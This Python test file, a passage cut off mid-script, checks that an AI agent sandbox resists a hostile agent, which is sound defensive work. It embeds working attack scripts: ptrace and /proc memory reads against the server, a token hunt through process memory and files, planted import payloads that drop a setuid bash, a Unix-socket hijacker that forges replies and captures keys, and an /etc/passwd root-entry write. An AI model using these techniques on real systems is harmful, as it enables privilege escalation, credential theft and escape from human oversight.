"""A hostile agent, with nothing but ordinary actions, must gain nothing (SPEC section 7).

Every test here is an attack an agent can make with CmdRunAction shell
commands and file actions, using only what the base image has (python3,
bash, coreutils). Each runs under runc and under gVisor (``runsc``). What
must hold afterwards:

- the agent's processes have no uid 0 and no capability (bounding set
  included); the agent cannot signal, trace or read the server process (its
  ``/proc`` entries; under runsc, whose ``/proc`` shows environ, maps and fd
  of every process to anyone, nothing read there holds the session key);
- the agent cannot kill the server: the same session keeps answering;
- code the agent plants in /workspace (packages the server imports,
  ``sitecustomize``) is never imported by the server: not after a restart,
  not in a later session on the same workspace;
- the session key never reaches the agent: it is in no environment, command
  line, memory or file the agent can read, and no string the agent can find
  opens the server's API;
- with ``network="none"`` the agent cannot take over the channel's Unix
  socket (rename it, listen on its path, stop the server) and so cannot
  answer the host with a forged observation or capture the key;
- another unprivileged user of the host cannot list or enter the socket
  directory, connect to the socket, or use the TCP port without the key;
- nothing dangerous lands on the host: no setuid/setgid file or directory and
  no device node appears in a mounted workspace, whatever the agent tries.

The agent-side attacks are stdlib-only python3 scripts (the ``*_SCRIPT``
constants), written into the sandbox with ``FileWriteAction`` and run with
``python3``; each writes a JSON report into ``/workspace/.attack/``, read on
the host from the mounted workspace. The session key is never sent into the
sandbox: the host checks what the agent found.

The attacks that need neither a host directory, nor ``docker exec``, nor
network="none" build their runtime with ``make_runtime`` and run on Swarm too
(tests/swarm/test_docker_suite.py), where ``workspace`` is None: no host
directory is mounted, and the report is read with a ``FileReadAction``.
"""

from __future__ import annotations

import asyncio
import base64
import json
import os
import shutil
import stat
import time
import uuid
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from support import ConfigFactory, RuntimeFactory, is_status, next_event, session_id, sh

from events import (
    CmdOutputObservation,
    CmdRunAction,
    ErrorObservation,
    EventStream,
    FileEditAction,
    FileReadAction,
    FileReadObservation,
    FileWriteAction,
)
from openhands_rt import DockerRuntime
from openhands_rt.docker_client import open_docker
from openhands_rt.docker_runtime import SERVER_PORT
from openhands_rt.runtime import EventStreamRuntime, SandboxEndpoint

pytestmark = [pytest.mark.docker, pytest.mark.timeout(300)]

REPORTS = ".attack"  # under the workspace: where the agent-side scripts put their reports
NOBODY = 65534
# A system interpreter any host user can run (the test's own may sit under /root).
HOST_PYTHON = next(
    (p for p in ("/usr/bin/python3", "/usr/local/bin/python3") if os.path.exists(p)),
    "/usr/bin/python3",
)


# ---------------------------------------------------------------- helpers


def _api_key(rt: EventStreamRuntime) -> str:
    """The session key the host uses."""
    endpoint: SandboxEndpoint | None = getattr(rt, "endpoint", None)
    assert endpoint is not None, "the runtime is not connected"
    return endpoint.api_key


def _unix_socket(rt: DockerRuntime) -> str:
    """The host path of the channel's Unix socket (network="none")."""
    assert rt.endpoint is not None, "the runtime is not connected"
    assert rt.endpoint.unix_socket is not None, "this sandbox has no Unix socket"
    return rt.endpoint.unix_socket


async def _published_port(container_name: str) -> int:
    """The host port Docker published for the server (from ``docker inspect``)."""
    async with open_docker() as docker:
        container = await docker.containers.get(container_name)
        info = await container.show()
    ports = info["NetworkSettings"].get("Ports") or {}
    for bindings in ports.values():
        for binding in bindings or []:
            if binding.get("HostPort"):
                return int(binding["HostPort"])
    raise AssertionError(f"{container_name} publishes no port: {ports}")


async def _exec_detached(container_name: str, cmd: list[str], *, user: str = "root") -> None:
    """``docker exec -d``: detached, because under gVisor an exec may outlive its output."""
    async with open_docker() as docker:
        container = await docker.containers.get(container_name)
        execution = await container.exec(cmd, user=user)
        await execution.start(detach=True)


async def _write(rt: EventStreamRuntime, path: str, content: str) -> None:
    """A FileWriteAction that must succeed."""
    written = await rt.run(FileWriteAction(path, content))
    assert not isinstance(written, ErrorObservation), f"writing {path}: {written}"


async def _run_script(
    rt: EventStreamRuntime, script: str, *args: str, timeout: float = 120
) -> CmdOutputObservation:
    """Write ``script`` into the sandbox and run it with python3 as the agent."""
    path = f"/tmp/attack-{uuid.uuid4().hex[:8]}.py"
    await _write(rt, path, script)
    return await sh(rt, " ".join(["python3", path, *args]), blocking=True, timeout=timeout)


def _report(workspace: Path, name: str) -> dict[str, Any]:
    """The JSON report an agent-side script left in the workspace."""
    path = workspace / REPORTS / f"{name}.json"
    assert path.exists(), f"the agent-side script wrote no report {path}"
    data: dict[str, Any] = json.loads(path.read_text())
    return data


async def _report_of(rt: EventStreamRuntime, workspace: Path | None, name: str) -> dict[str, Any]:
    """The report of ``name``: from the mounted workspace on the host, or (``workspace``
    None: no host directory mounted, as on Swarm) with a FileReadAction."""
    if workspace is not None:
        return _report(workspace, name)
    read = await rt.run(FileReadAction(f"/workspace/{REPORTS}/{name}.json"))
    assert isinstance(read, FileReadObservation), f"the agent-side script wrote no report: {read}"
    data: dict[str, Any] = json.loads(read.content)
    return data


def _mounted(workspace: Path | None) -> dict[str, object]:
    """The config's ``workspace_dir`` for ``workspace`` (None: the sandbox's own)."""
    return {} if workspace is None else {"workspace_dir": str(workspace)}


def _failed(result: object) -> bool:
    """An attempt recorded by a script failed ("ok" means it worked)."""
    return result != "ok"


@pytest.fixture
def workspace(tmp_path: Path) -> Iterator[Path]:
    """A host directory mounted as /workspace (owned by root: the sandbox user is 1000).

    Removed afterwards, so that nothing an attack left there (a setuid copy of
    bash, a device node) outlives the test.
    """
    ws = tmp_path / "ws"
    ws.mkdir()
    yield ws
    shutil.rmtree(ws, ignore_errors=True)


# ---------------------------------------------------------------- 1. privileges and the server

# argv: server pid. Reports what the agent's own process is, and every way it
# tries to reach the server: signals, ptrace, /proc entries.
PROBE_SERVER_SCRIPT = r"""
import base64, ctypes, errno, json, os, signal, sys

server = int(sys.argv[1])
report = {"server": server}

def status(pid):
    with open(f"/proc/{pid}/status") as f:
        return dict(line.split(":", 1) for line in f.read().splitlines() if ":" in line)

def err(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))

def attempt(fn):
    try:
        fn()
    except OSError as exc:
        return err(exc)
    return "ok"

report["self"] = {k: v.strip() for k, v in status("self").items()}

report["kill0"] = attempt(lambda: os.kill(server, 0))

def stop_and_continue():
    os.kill(server, signal.SIGSTOP)
    os.kill(server, signal.SIGCONT)  # it worked: let the server go on at once

report["sigstop"] = attempt(stop_and_continue)

libc = ctypes.CDLL(None, use_errno=True)
libc.ptrace.argtypes = [ctypes.c_long, ctypes.c_long, ctypes.c_void_p, ctypes.c_void_p]
libc.ptrace.restype = ctypes.c_long
PTRACE_ATTACH, PTRACE_DETACH, WALL = 16, 17, 0x40000000
if libc.ptrace(PTRACE_ATTACH, server, None, None) == 0:
    report["ptrace"] = "ok"
    try:
        os.waitpid(server, WALL)
    except OSError:
        pass
    libc.ptrace(PTRACE_DETACH, server, None, None)
else:
    report["ptrace"] = errno.errorcode.get(ctypes.get_errno(), "?")

files = {}
for name in ("environ", "maps", "cmdline", "mem"):
    try:
        with open(f"/proc/{server}/{name}", "rb") as f:
            data = b"" if name == "mem" else f.read(4 << 20)
        files[name] = {"result": "ok", "data": base64.b64encode(data).decode()}
    except OSError as exc:
        files[name] = {"result": err(exc)}
report["files"] = files

try:
    fds = os.listdir(f"/proc/{server}/fd")
    report["fd_list"] = "ok"
except OSError as exc:
    report["fd_list"] = err(exc)
    fds = ["0", "1", "2"]
opened = {}
for fd in fds:
    try:
        os.close(os.open(f"/proc/{server}/fd/{fd}", os.O_RDONLY | os.O_NONBLOCK))
    except OSError as exc:
        opened[fd] = err(exc)
        continue
    # Opened through /proc: only harmless if the agent can open the same file by its
    # own path anyway (/dev/null, a new PTY from /dev/pts/ptmx).
    try:
        target = os.readlink(f"/proc/{server}/fd/{fd}")
        os.close(os.open(target, os.O_RDONLY | os.O_NONBLOCK))
        opened[fd] = "ok, as " + target
    except OSError as exc:
        opened[fd] = "ok"
report["fd_open"] = opened

os.makedirs("/workspace/.attack", exist_ok=True)
with open("/workspace/.attack/server.json", "w") as f:
    json.dump(report, f)
print("probed", server)
"""


async def test_agent_is_unprivileged_and_cannot_signal_trace_or_read_the_server(
    stream: EventStream,
    make_runtime: RuntimeFactory,
    make_config: ConfigFactory,
    oci_runtime: str,
    workspace: Path | None,
) -> None:
    """The agent's processes: every uid the sandbox user, no capability in any set.

    The server (bash's parent): the agent can neither signal it (``kill -0``,
    SIGSTOP), nor ptrace-attach to it, nor read its environ/maps/mem or open
    its file descriptors. Under runsc gVisor shows environ, maps and the fd
    list of every process to anyone: there, nothing read may hold the key.
    """
    config = make_config(oci_runtime=oci_runtime, **_mounted(workspace))
    async with make_runtime(stream, config, session_id=session_id()) as rt:
        key = _api_key(rt)
        server = (await sh(rt, "echo $PPID")).content.strip()
        assert server.isdigit(), server
        shell_kill = await sh(rt, "kill -0 $PPID 2>&1; echo exit=$?")
        probe = await _run_script(rt, PROBE_SERVER_SCRIPT, server)
        assert probe.exit_code == 0, probe.content
        report = await _report_of(rt, workspace, "server")
        assert (await sh(rt, "echo ok")).content.strip() == "ok"

    violations: list[str] = []
    me = report["self"]
    uids = me["Uid"].split()
    if len(set(uids)) != 1 or uids[0] == "0":
        violations.append(f"the agent's uids are {uids} (want four equal, non-zero)")
    gids = me["Gid"].split()
    if len(set(gids)) != 1 or gids[0] == "0":
        violations.append(f"the agent's gids are {gids} (want four equal, non-zero)")
    violations += [
        f"the agent's {mask} is {me[mask]} (want 0)"
        for mask in ("CapInh", "CapPrm", "CapEff", "CapBnd", "CapAmb")  # gVisor: no CapAmb
        if mask in me and int(me[mask], 16) != 0
    ]
    if oci_runtime == "runc" and me.get("NoNewPrivs") != "1":
        violations.append(f"the agent's NoNewPrivs is {me.get('NoNewPrivs')}")
    if "Operation not permitted" not in shell_kill.content:
        violations.append(f"`kill -0 $PPID` from the shell: {shell_kill.content.strip()!r}")
    violations += [
        f"{attempt} on the server: {report[attempt]} (want EPERM)"
        for attempt in ("kill0", "sigstop", "ptrace")
        if report[attempt] != "EPERM"
    ]
    files = report["files"]
    if files["mem"]["result"] == "ok":
        violations.append("the agent opened the server's /proc/<pid>/mem")
    if oci_runtime == "runc":
        violations += [
            f"/proc/<server>/{name}: {files[name]['result']} (want EACCES)"
            for name in ("environ", "maps")
            if files[name]["result"] != "EACCES"
        ]
        if report["fd_list"] != "EACCES":
            violations.append(f"listing /proc/<server>/fd: {report['fd_list']} (want EACCES)")
    for name, read in files.items():
        if read["result"] == "ok" and key.encode() in base64.b64decode(read["data"]):
            violations.append(f"the session key is in the server's /proc/<pid>/{name}")
    opened = [fd for fd, result in report["fd_open"].items() if result == "ok"]
    if opened:
        violations.append(
            f"the agent opened the server's file descriptors {opened}, which it cannot open "
            f"by their own paths: {report['fd_open']}"
        )
    assert not violations, f"{oci_runtime}: the agent reaches the server:\n" + "\n".join(violations)


async def test_file_actions_act_as_the_agent_not_as_the_server(
    stream: EventStream,
    make_runtime: RuntimeFactory,
    make_config: ConfigFactory,
    oci_runtime: str,
    workspace: Path | None,
) -> None:
    """The server's real uid is root's, but its file actions are the sandbox user's.

    A file the agent cannot read, the server's reader and editor cannot read
    either; a root-owned file it cannot write, they cannot write; what they
    create belongs to the sandbox user. (Root's privileges would be the way out
    through the file actions otherwise.)
    """
    config = make_config(oci_runtime=oci_runtime, **_mounted(workspace))
    async with make_runtime(stream, config, session_id=session_id()) as rt:
        shell = await sh(rt, "cat /etc/shadow > /dev/null; echo exit=$?")
        assert "Permission denied" in shell.content, shell.content
        read = await rt.run(FileReadAction("/etc/shadow"))
        assert isinstance(read, ErrorObservation), read
        view = await rt.run(FileEditAction("/etc/shadow", "view"))
        assert isinstance(view, ErrorObservation), view
        write = await rt.run(FileWriteAction("/etc/passwd", "evil::0:0::/:/bin/sh\n"))
        assert isinstance(write, ErrorObservation), write
        create = await rt.run(FileEditAction("/usr/local/bin/planted", "create", file_text="x"))
        assert isinstance(create, ErrorObservation), create
        mine = await rt.run(FileWriteAction("/workspace/mine.txt", "ok\n"))
        assert not isinstance(mine, ErrorObservation), mine
        uid = int((await sh(rt, "id -u")).content.strip())
        if workspace is None:  # no host directory: the owner as the sandbox sees it
            owner = int((await sh(rt, "stat -c %u /workspace/mine.txt")).content.strip())
    if workspace is not None:
        owner = (workspace / "mine.txt").stat().st_uid
    assert owner == uid != 0


# ---------------------------------------------------------------- 2. killing the server


async def test_agent_cannot_kill_the_server(
    stream: EventStream, make_runtime: RuntimeFactory, make_config: ConfigFactory, oci_runtime: str
) -> None:
    """``kill -9 $PPID`` from the agent's shell fails and the same session keeps answering."""
    async with make_runtime(
        stream, make_config(oci_runtime=oci_runtime), session_id=session_id()
    ) as rt:
        before = (await sh(rt, "echo $PPID")).content.strip()
        obs = await asyncio.wait_for(rt.run(CmdRunAction("kill -9 $PPID 2>&1; echo exit=$?")), 30)
        assert isinstance(obs, CmdOutputObservation), (
            f"{oci_runtime}: the agent killed the server with `kill -9 $PPID` "
            f"(the action was answered with {obs!r})"
        )
        assert "Operation not permitted" in obs.content, obs.content
        assert "exit=1" in obs.content, obs.content
        after = await sh(rt, "echo $PPID")
        assert after.content.strip() == before, "the server was replaced"
        assert (await sh(rt, "echo still here")).content.strip() == "still here"


# ---------------------------------------------------------------- 3. planted modules

MARKER = "PWNED-"
ROOTBASH = "rootbash"
# What every planted module does when imported: leave a marker (saying as whom
# it ran) and try to leave a setuid copy of bash in the workspace.
_PAYLOAD_HEAD = """\
import os as _os, shutil as _shutil, sys as _sys
try:
    with open("/workspace/{marker}{name}", "w") as _f:
        _f.write("resuid=%r argv=%r\\n" % (_os.getresuid(), _sys.argv))
except OSError:
    pass
try:
    _shutil.copy("/bin/bash", "/workspace/{rootbash}")
    _os.chmod("/workspace/{rootbash}", 0o4755)
except OSError:
    pass
"""
# Planted packages then load the real package in their place (as if nothing
# happened), so that today's server still starts and the marker is the only sign.
_PAYLOAD_CHAIN_TO_REAL = """\
import importlib.machinery as _machinery, importlib.util as _util
_path = [p for p in _sys.path if _os.path.abspath(p or _os.curdir) != "/workspace"]
_spec = _machinery.PathFinder.find_spec(__name__, _path)
_real = _util.module_from_spec(_spec)
_sys.modules[__name__] = _real
_spec.loader.exec_module(_real)
"""
# container_server/__main__.py (run only if the planted __init__ was not): the real server.
_PAYLOAD_EXEC_REAL_SERVER = """\
_os.execv(_sys.executable, [_sys.executable, "-I", "-m", "container_server", *_sys.argv[1:]])
"""
PLANTED_PACKAGES = ("container_server", "events", "aiohttp", "msgspec")
PLANTED_MODULES = ("sitecustomize", "usercustomize")


def _payload(name: str, tail: str = "") -> str:
    return _PAYLOAD_HEAD.format(marker=MARKER, name=name, rootbash=ROOTBASH) + tail


def _planted_files() -> dict[str, str]:
    """Path under /workspace -> content, for every module the agent plants."""
    files = {f"{p}/__init__.py": _payload(p, _PAYLOAD_CHAIN_TO_REAL) for p in PLANTED_PACKAGES}
    files["container_server/__main__.py"] = _payload(
        "container_server.__main__", _PAYLOAD_EXEC_REAL_SERVER
    )
    files.update({f"{m}.py": _payload(m) for m in PLANTED_MODULES})
    return files


def _take_markers(workspace: Path) -> dict[str, str]:
    """Markers and the setuid bash the payloads left (name -> what it says); removed."""
    found: dict[str, str] = {}
    for path in sorted(workspace.iterdir()):
        if path.name.startswith(MARKER):
            found[path.name] = path.read_text(errors="replace").strip()
            path.unlink()
        elif path.name == ROOTBASH:
            st = path.lstat()
            found[path.name] = f"uid {st.st_uid}, mode {oct(st.st_mode)}"
            path.unlink()
    return found


async def _kill_server_from_the_host(rt: DockerRuntime, stream: EventStream, server: str) -> None:
    """SIGKILL the server process (not PID 1) with ``docker exec`` as root, and see it die.

    Root in the container is the server's real uid (the agent cannot do this:
    ``test_agent_cannot_kill_the_server``); it stands for any death the agent
    could still cause, e.g. the out-of-memory killer.
    """
    mark = len(stream)
    # `kill` is a shell builtin here (the image has no procps).
    await _exec_detached(rt.container_name, ["sh", "-c", f"kill -9 {server}"], user="root")
    try:
        await next_event(stream, mark, is_status("error", "died"), within=10)
    except asyncio.TimeoutError:
        raise AssertionError(f"the server ({server}) did not die from kill -9 as root") from None


async def test_planted_modules_are_never_imported(
    stream: EventStream, make_config: ConfigFactory, oci_runtime: str, workspace: Path
) -> None:
    """Packages the agent plants in /workspace are not imported by the server.

    The agent writes ``container_server``, ``events``, ``aiohttp``, ``msgspec``
    packages and ``sitecustomize``/``usercustomize`` modules into /workspace
    (the server's working directory); imported, each leaves a
    ``/workspace/PWNED-<name>`` marker with its ``getresuid()`` and tries to
    leave a setuid copy of bash. Then (a) the server dies (killed from the
    host) and auto_restart starts it again; (b) a fresh session starts on the
    same workspace. After each: no marker, no ``rootbash``, and the sandbox works.
    """
    config = make_config(oci_runtime=oci_runtime, workspace_dir=str(workspace))
    found: dict[str, dict[str, str]] = {}
    rt = DockerRuntime(stream, config, session_id=session_id(), auto_restart=True)
    async with rt:
        server = (await sh(rt, "echo $PPID")).content.strip()
        for relative, content in _planted_files().items():
            await _write(rt, f"/workspace/{relative}", content)
        # (Not `ls`: under this gVisor release coreutils' ls fails with EINVAL.)
        planted = await sh(rt, "test -f /workspace/container_server/__main__.py && echo planted")
        assert planted.content.strip() == "planted", planted.content

        # (a) the server dies and auto_restart brings the container back.
        mark = len(stream)
        await _kill_server_from_the_host(rt, stream, server)
        try:
            await next_event(stream, mark, is_status("ready", "restarted"), within=60)
            restarted = True
        except asyncio.TimeoutError:
            restarted = False
        found["after the restart"] = _take_markers(workspace)
        assert restarted, (
            f"{oci_runtime}: the sandbox did not come back after the restart; "
            f"planted code ran: {found}"
        )
        assert (await sh(rt, "echo ok")).content.strip() == "ok"

    # (b) a new session on the same workspace, planted files still there.
    assert (workspace / "container_server" / "__init__.py").exists()
    async with DockerRuntime(stream, config, session_id=session_id()) as fresh:
        found["in a new session"] = _take_markers(workspace)
        assert (await sh(fresh, "echo ok")).content.strip() == "ok"

    ran = {when: markers for when, markers in found.items() if markers}
    assert not ran, f"{oci_runtime}: the server imported code the agent planted: " + json.dumps(
        ran, indent=1
    )


# argv: a JSON list of the server's sys.path entries. Reports every path on it
# (entries, their ancestors, everything below them) the agent could write to.
WRITABLE_PATH_SCRIPT = r"""
import json, os, sys

entries = json.loads(sys.argv[1])
writable, checked = [], 0
seen = set()

def check(path):
    global checked
    if path in seen:
        return
    seen.add(path)
    checked += 1
    if os.access(path, os.W_OK):
        writable.append(path)

for entry in entries:
    parent = entry
    while True:  # the entry and every ancestor: a writable one could swap it
        check(parent)
        if parent == "/":
            break
        parent = os.path.dirname(parent)
    if os.path.isdir(entry):
        for dirpath, dirnames, filenames in os.walk(entry, followlinks=True):
            for name in dirnames + filenames:
                check(os.path.join(dirpath, name))

os.makedirs("/workspace/.attack", exist_ok=True)
with open("/workspace/.attack/path.json", "w") as f:
    json.dump({"writable": writable, "checked": checked}, f)
"""


async def _exec_output(container_name: str, cmd: list[str]) -> str:
    """``docker exec`` as root; its standard output."""
    async with open_docker() as docker:
        container = await docker.containers.get(container_name)
        execution = await container.exec(cmd, user="root")
        chunks: list[bytes] = []
        async with execution.start(detach=False) as output:
            while (message := await output.read_out()) is not None:
                if message.stream == 1:
                    chunks.append(message.data)
    return b"".join(chunks).decode()


async def test_nothing_on_the_servers_path_is_writable_by_the_agent(
    stream: EventStream, make_config: ConfigFactory, oci_runtime: str, workspace: Path
) -> None:
    """The server's import path: no working directory, and nothing the agent can write.

    The path is what the server's own command line gives (``python -I``, read
    with ``docker exec`` as root): no ``""`` and no /workspace, and no entry,
    ancestor of one, or file or directory below one (``.pth`` files,
    ``sitecustomize``, packages, ``__pycache__``) is writable by the sandbox user.
    """
    config = make_config(oci_runtime=oci_runtime, workspace_dir=str(workspace))
    async with DockerRuntime(stream, config, session_id=session_id()) as rt:
        async with open_docker() as docker:
            shown = await (await docker.containers.get(rt.container_name)).show()
        command = [*shown["Config"]["Entrypoint"], *shown["Config"]["Cmd"]]
        show_path = "import json, sys; print(json.dumps(sys.path))"
        if "-m" in command:  # build mode: the venv's python -I -m container_server
            probe_command = [*command[: command.index("-m")], "-c", show_path]
        else:  # mount mode: the bundle's launcher sets the path, then runs the server
            code_at = command.index("-c") + 1
            run_server = "import runpy; runpy.run_module("
            assert run_server in command[code_at], command
            path_setup = command[code_at].split(run_server)[0]
            probe_command = [*command[: code_at - 1], "-c", path_setup + show_path]
        assert "-I" in probe_command, command
        listing = await _exec_output(rt.container_name, probe_command)
        path = json.loads(listing.strip().splitlines()[-1])
        assert "" not in path, path
        assert not any(p.rstrip("/") in ("/workspace", ".") for p in path), path
        probe = await _run_script(rt, WRITABLE_PATH_SCRIPT, f"'{json.dumps(path)}'")
        assert probe.exit_code == 0, probe.content
        report = _report(workspace, "path")
    assert report["checked"] > 500, report  # the stdlib and the venv were walked
    assert not report["writable"], (
        f"{oci_runtime}: the agent can write on the server's import path: {report['writable']}"
    )


# ---------------------------------------------------------------- 4. the session key

# argv: none. Collects every string the agent can find that might be the key:
# environments and command lines of every process, 43-character url-safe
# tokens in the memory of every process it can read, url-safe runs of 32+
# characters in readable files. Then tries each as the key on every listening TCP port.
HUNT_KEY_SCRIPT = r"""
import http.client, json, os, re, ssl, stat, time

started = time.monotonic()

candidates = {}  # string -> where it was found

def add(value, where):
    if value and value not in candidates:
        candidates[value] = where

me = str(os.getpid())
pids = [p for p in os.listdir("/proc") if p.isdigit() and p != me]
for pid in pids:
    for name in ("environ", "cmdline"):
        try:
            with open(f"/proc/{pid}/{name}", "rb") as f:
                data = f.read()
        except OSError:
            continue
        for entry in data.split(b"\0"):
            text = entry.decode("utf-8", "replace")
            add(text, f"/proc/{pid}/{name}")
            for piece in text.split("="):
                add(piece, f"/proc/{pid}/{name}")

TOKEN43 = re.compile(rb"(?<![A-Za-z0-9_-])[A-Za-z0-9_-]{43}(?![A-Za-z0-9_-])")
mem_read = []
for pid in pids:
    try:
        with open(f"/proc/{pid}/maps") as f:
            maps = f.read().splitlines()
        mem = open(f"/proc/{pid}/mem", "rb", buffering=0)
    except OSError:
        continue
    with mem:
        total = 0
        for line in maps:
            fields = line.split()
            start, end = (int(x, 16) for x in fields[0].split("-"))
            if "r" not in fields[1] or end - start > (256 << 20) or "[v" in line:
                continue
            try:
                mem.seek(start)
                data = mem.read(end - start)
            except (OSError, OverflowError, ValueError):
                continue
            total += len(data or b"")
            for m in TOKEN43.finditer(data or b""):
                add(m.group().decode(), f"/proc/{pid}/mem")
        mem_read.append((pid, total))

# Shorter runs cannot hold a 43-character key (the host checks by substring).
TOKEN = re.compile(rb"[A-Za-z0-9_-]{32,}")
home = os.path.expanduser("~")
roots = ["/etc", "/run", "/tmp", "/var/tmp", "/dev/shm", "/workspace", home, "/openhands_rt"]
files_read = 0
for root in roots:
    for dirpath, dirnames, filenames in os.walk(root):
        dirnames[:] = [d for d in dirnames if os.path.join(dirpath, d) != "/workspace/.attack"]
        for name in filenames:
            path = os.path.join(dirpath, name)
            try:
                st = os.lstat(path)
                if not stat.S_ISREG(st.st_mode) or st.st_size > (1 << 20):
                    continue
                with open(path, "rb") as f:
                    data = f.read()
            except OSError:
                continue
            files_read += 1
            for m in TOKEN.finditer(data):
                add(m.group().decode(), path)

def listening_ports():
    ports = set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        try:
            with open(table) as f:
                lines = f.read().splitlines()[1:]
        except OSError:
            continue
        for line in lines:
            fields = line.split()
            if len(fields) > 3 and fields[3] == "0A":
                ports.add(int(fields[1].rsplit(":", 1)[1], 16))
    return sorted(ports)

connections = {}
tls_ports = set()  # ports whose server speaks TLS (SwarmRuntime's does)
# The agent cannot know the server's certificate: it trusts any.
UNVERIFIED = ssl._create_unverified_context()

def connect(port):
    if port in tls_ports:
        return http.client.HTTPSConnection("127.0.0.1", port, timeout=5, context=UNVERIFIED)
    return http.client.HTTPConnection("127.0.0.1", port, timeout=5)

def get(port, key):  # GET /server_info with key: one kept-alive connection per port
    headers = {"X-Session-API-Key": key}
    for _ in range(2):
        conn = connections.get(port) or connect(port)
        connections[port] = conn
        try:
            conn.request("GET", "/server_info", headers=headers)
            response = conn.getresponse()
            response.read()
            return response.status
        except (OSError, http.client.HTTPException, ValueError) as exc:
            conn.close()
            connections.pop(port, None)
            error = f"error: {exc!r}"
    return error

collected = time.monotonic() - started
ports = listening_ports()
baseline = {port: get(port, "not-the-key") for port in ports}
for port in ports:
    if baseline[port] != 401:  # a plain request refused: maybe a TLS server
        tls_ports.add(port)
        if get(port, "not-the-key") == 401:
            baseline[port] = 401
        else:
            tls_ports.discard(port)
tries = 0
opened = []
for port in ports:
    if baseline[port] != 401:
        continue  # not the server (or not HTTP): nothing to learn
    for candidate, where in candidates.items():
        if not 16 <= len(candidate) <= 128 or not candidate.isprintable():
            continue
        tries += 1
        status = get(port, candidate)
        if status != 401:
            opened.append({"port": port, "status": status, "where": where})

os.makedirs("/workspace/.attack", exist_ok=True)
with open("/workspace/.attack/key.json", "w") as f:
    json.dump(
        {
            "candidates": candidates,
            "mem_read": mem_read,
            "files_read": files_read,
            "ports": ports,
            "baseline": baseline,
            "tries": tries,
            "opened": opened,
            "seconds": {"collect": collected, "total": time.monotonic() - started},
        },
        f,
    )
print(f"{len(candidates)} candidates, {files_read} files, ports {ports}, {tries} tries")
"""


async def test_session_key_never_reaches_the_agent(
    stream: EventStream,
    make_runtime: RuntimeFactory,
    make_config: ConfigFactory,
    oci_runtime: str,
    workspace: Path | None,
) -> None:
    """Nothing the agent can read holds the key, and nothing it finds opens the API.

    The agent collects every environment and command line in /proc, the
    43-character url-safe tokens in the memory of every process it can read,
    and the url-safe runs of 32 or more characters in readable files under
    /etc, /run, /tmp, /workspace, its home and /openhands_rt; the host checks
    that the real key is in none of them (the key never goes into the
    sandbox). Then the agent tries every candidate of 16 to 128 characters as
    ``X-Session-API-Key`` on every listening TCP port (from
    /proc/net/tcp{,6}; over TLS where a plain request is refused, trusting any
    certificate): every answer must be 401.
    """
    config = make_config(oci_runtime=oci_runtime, **_mounted(workspace))
    async with make_runtime(stream, config, session_id=session_id()) as rt:
        key = _api_key(rt)
        hunt = await _run_script(rt, HUNT_KEY_SCRIPT, timeout=240)
        assert hunt.exit_code == 0, hunt.content
        report = await _report_of(rt, workspace, "key")
        assert (await sh(rt, "echo ok")).content.strip() == "ok"

    print(
        f"\n{oci_runtime}: {hunt.content.strip()}; memory read: {report['mem_read']}; "
        f"seconds: {report['seconds']}"
    )
    leaks = sorted({where for found, where in report["candidates"].items() if key in found})
    assert not leaks, f"{oci_runtime}: the agent read the session key from {leaks}"
    assert report["ports"], "the agent found no listening port: the probe tested nothing"
    assert 401 in report["baseline"].values(), (
        f"no port answered a wrong key with 401: {report['baseline']}"
    )
    assert report["tries"] > 0
    assert not report["opened"], (
        f"{oci_runtime}: a string the agent found opened the server's API: {report['opened']}"
    )


# ---------------------------------------------------------------- 5. the channel's Unix socket

# argv: server pid. Runs in the background: finds the server's Unix socket,
# renames it away, listens on its path, SIGSTOPs the server, and answers the
# host's next connection with a forged observation, recording the headers
# (the key among them). Resumes the server when done.
FORGER_SCRIPT = r"""
import base64, errno, hashlib, json, os, signal, socket, stat, sys, time

server = int(sys.argv[1])
report = {}
REPORT = "/workspace/.attack/forger.json"

def save():
    with open(REPORT + ".tmp", "w") as f:
        json.dump(report, f)
    os.replace(REPORT + ".tmp", REPORT)

def err(exc):
    return errno.errorcode.get(exc.errno, str(exc.errno))

def find_socket():
    try:
        with open("/proc/net/unix") as f:
            for line in f.read().splitlines()[1:]:
                fields = line.split()
                # Flags 00010000: listening.
                if len(fields) >= 8 and fields[3] == "00010000" and fields[7].startswith("/"):
                    return fields[7], "/proc/net/unix"
    except OSError:
        pass
    for root, dirs, files in os.walk("/"):
        dirs[:] = [d for d in dirs if os.path.join(root, d) not in ("/proc", "/sys", "/dev")]
        for name in files:
            path = os.path.join(root, name)
            try:
                if stat.S_ISSOCK(os.lstat(path).st_mode):
                    return path, "walk"
            except OSError:
                pass
    return None, None

path, how = find_socket()
report["socket"], report["found_by"] = path, how
listener = None
if path is not None:
    try:
        os.rename(path, path + ".real")
        report["rename"] = "ok"
    except OSError as exc:
        report["rename"] = err(exc)
    try:
        listener = socket.socket(socket.AF_UNIX, socket.SOCK_STREAM)
        listener.bind(path)
        os.chmod(path, 0o777)
        listener.listen(8)
        report["bind"] = "ok"
    except OSError as exc:
        report["bind"] = err(exc)
        listener = None
else:
    report["rename"] = report["bind"] = "no socket found"
save()

time.sleep(1.0)  # the action that started this one returns first
try:
    os.kill(server, signal.SIGSTOP)
    report["sigstop"] = "ok"
except OSError as exc:
    report["sigstop"] = err(exc)
save()

def read_exactly(conn, n):
    data = b""
    while len(data) < n:
        chunk = conn.recv(n - len(data))
        if not chunk:
            raise EOFError
        data += chunk
    return data

def read_frame(conn):
    head = read_exactly(conn, 2)
    opcode, length = head[0] & 0x0F, head[1] & 0x7F
    if length == 126:
        length = int.from_bytes(read_exactly(conn, 2), "big")
    elif length == 127:
        length = int.from_bytes(read_exactly(conn, 8), "big")
    mask = read_exactly(conn, 4) if head[1] & 0x80 else b"\0\0\0\0"
    payload = read_exactly(conn, length)
    return opcode, bytes(b ^ mask[i % 4] for i, b in enumerate(payload))

def send_text(conn, text):
    data = text.encode()
    if len(data) < 126:
        header = bytes([0x81, len(data)])
    else:
        header = bytes([0x81, 126]) + len(data).to_bytes(2, "big")
    conn.sendall(header + data)

try:
    if listener is not None:
        listener.settimeout(30)
        conn, _ = listener.accept()
        conn.settimeout(10)
        request = b""
        while b"\r\n\r\n" not in request:
            chunk = conn.recv(4096)
            if not chunk:
                break
            request += chunk
        with open("/workspace/captured.txt", "wb") as f:
            f.write(request)
        headers = {}
        for line in request.decode("latin-1").split("\r\n")[1:]:
            name, _, value = line.partition(":")
            headers[name.strip().lower()] = value.strip()
